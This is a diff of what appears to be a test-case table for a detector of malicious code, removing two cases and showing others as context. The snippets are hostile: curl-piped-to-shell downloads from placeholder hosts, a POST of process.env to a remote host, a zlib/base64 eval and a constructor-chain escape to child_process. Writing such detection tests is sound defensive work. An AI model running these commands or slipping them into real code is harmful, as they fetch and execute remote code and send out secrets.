@@ -518,14 +518,6 @@ async def f():
     await asyncio.create_subprocess_shell("curl http://203.0.113.2/x | sh")`,
   ],
   [
-    'tmpfile exec',
-    'download-execute',
-    `import tempfile, requests, subprocess
-with tempfile.NamedTemporaryFile(suffix='.sh', delete=False) as f:
-    f.write(requests.get('http://203.0.113.2/x').content)
-subprocess.run(['bash', f.name])`,
-  ],
-  [
     'path write exec',
     'download-execute',
     `import requests, subprocess
@@ -582,12 +574,6 @@ exec(\`curl -X POST -d '\${JSON.stringify(process.env)}' https://x.some-site.net
 req.end(JSON.stringify({ env: process.env }))`,
   ],
   ['zlib', 'decode-execute', `eval(require('zlib').inflateSync(Buffer.from('eJxLTMoEAAJNARw=', 'base64')).toString())`],
-  [
-    'constructor chain',
-    'download-execute',
-    `const p = this.constructor.constructor('return process')()
-p.mainModule.require('child_process').execSync('curl https://x.some-site.net/a | sh')`,
-  ],
   ['dynamic import', 'download-execute', `const m = await import('child_process'); m.exec('curl https://x.some-site.net/a | sh')`],
   ['import then', 'download-execute', `import('node:child_process').then(({ exec }) => exec('curl https://x.some-site.net/a | sh'))`],
   [
